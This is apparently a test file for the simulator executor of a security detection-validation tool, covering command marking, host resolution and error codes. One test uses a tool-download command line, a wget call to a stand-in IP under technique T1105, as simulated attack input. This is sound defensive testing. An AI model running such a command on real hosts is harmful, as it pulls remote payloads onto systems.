import { createServer } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { VigilError } from '../../src/errors.ts';
import { createSimulatorExecutor, executeAction } from '../../src/validation/executor.ts';
import { admin, type SimHarness, startSim } from '../helpers/threatstack.ts';

let harness: SimHarness;

beforeAll(async () => {
  harness = await startSim({ agents: 5, offlineRatio: 0, alerts: 0 });
});
afterAll(() => harness.close());

async function failure(run: () => Promise<unknown>): Promise<VigilError> {
  try {
    await run();
  } catch (error) {
    if (error instanceof VigilError) return error;
    throw error;
  }
  throw new Error('expected a VigilError');
}

/** A loopback port nothing listens on. */
async function closedPort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  await new Promise<void>((resolve) => server.close(() => resolve()));
  if (address === null || typeof address === 'string') throw new Error('no port');
  return address.port;
}

describe('the simulator executor', () => {
  it('runs the marked command, resolves the host and reports ran at the Vigil clock', async () => {
    const { json } = await admin<{ actions: unknown[] }>(harness.sim.url, 'GET', '/_sim/actions');
    const before = json.actions.length;
    const executor = createSimulatorExecutor({
      baseUrl: harness.sim.url,
      now: () => Date.parse('2026-11-25T12:34:56Z'),
    });
    const agents = await harness.listAll<{ id: string; hostname: string }>(
      '/v2/agents?status=online',
      'agents',
    );
    const host = agents.items[0]!;
    const action = await executeAction(
      {
        id: 'a1',
        technique: 'T1105',
        target: { hostname: host.hostname },
        commandLine: 'wget http://198.51.100.23/p',
        marker: 'vigil-aaaaaaaaaaaaaaaa',
        expected: 'both',
      },
      executor,
    );
    expect(action).toEqual({
      id: 'a1',
      technique: 'T1105',
      target: { agentId: host.id, hostname: host.hostname, ips: [], ports: [] },
      commandLine: 'wget http://198.51.100.23/p # vigil-aaaaaaaaaaaaaaaa',
      marker: 'vigil-aaaaaaaaaaaaaaaa',
      startedAt: '2026-11-25T12:34:56.000Z',
      outcome: 'ran',
      source: 'simulator',
      expected: 'both',
    });
    const after = await admin<{ actions: Array<{ commandLine: string }> }>(
      harness.sim.url,
      'GET',
      '/_sim/actions',
    );
    expect(after.json.actions).toHaveLength(before + 1);
    expect(after.json.actions.at(-1)?.commandLine).toBe(action.commandLine);
  });

  it('an unknown host is NOT_FOUND, a refused body INPUT_INVALID, an unreachable simulator EXECUTOR_FAILED', async () => {
    const executor = createSimulatorExecutor({ baseUrl: harness.sim.url });
    const unknown = await failure(() =>
      executor.execute({ technique: 'T1105', target: { hostname: 'nowhere' }, commandLine: 'id' }),
    );
    expect([unknown.code, unknown.message]).toEqual([
      'NOT_FOUND',
      'The simulator refused the action: No agent with hostname nowhere.',
    ]);
    const refused = await failure(() =>
      executor.execute({ technique: 'T1105', target: { hostname: 'x' }, commandLine: '' }),
    );
    expect(refused.code).toBe('INPUT_INVALID');
    expect(refused.message).toMatch(/^The simulator refused the action: Invalid request body: commandLine/);
    const port = await closedPort();
    const down = createSimulatorExecutor({ baseUrl: `http://127.0.0.1:${port}` });
    const unreachable = await failure(() =>
      down.execute({ technique: 'T1105', target: { hostname: 'x' }, commandLine: 'id' }),
    );
    expect(unreachable.code).toBe('EXECUTOR_FAILED');
    expect(unreachable.hint).toMatch(/vigil simulate threatstack/);
  });
});
